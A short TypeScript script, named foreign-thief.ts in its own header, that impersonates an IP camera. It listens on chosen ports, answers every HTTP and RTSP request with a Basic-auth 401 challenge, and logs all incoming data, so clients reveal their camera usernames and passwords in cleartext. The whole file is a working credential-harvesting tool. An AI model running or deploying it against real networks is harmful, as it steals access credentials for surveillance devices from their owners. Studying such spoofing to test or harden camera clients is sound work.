/**
 * Takes a camera's place and wants its password: foreign-thief.ts ADDRESS PORT…. Asks everybody for Basic (HTTP and RTSP) and prints
 * what it hears, one JSON string for each piece.
 */
import { createServer } from 'node:net';

const [address, ...ports] = process.argv.slice(2);
for (const port of ports)
  createServer((socket) => {
    let text = '';
    socket.on('error', () => undefined);
    socket.on('data', (data) => {
      process.stdout.write(`${JSON.stringify(data.toString('latin1'))}\n`);
      text = (text + data.toString('latin1')).slice(-8192);
      if (!text.includes('\r\n\r\n')) return;
      const protocol = /\b(RTSP\/1\.0|HTTP\/1\.[01])\r\n/.exec(text)?.[1] ?? 'HTTP/1.1';
      const cseq = /^CSeq: *(\d+)/im.exec(text)?.[1];
      const head = [`${protocol} 401 Unauthorized`, 'WWW-Authenticate: Basic realm="camera"', 'Content-Length: 0'];
      if (cseq !== undefined) head.push(`CSeq: ${cseq}`);
      socket.write(`${head.join('\r\n')}\r\n\r\n`);
      text = '';
    });
  }).listen(Number(port), address);
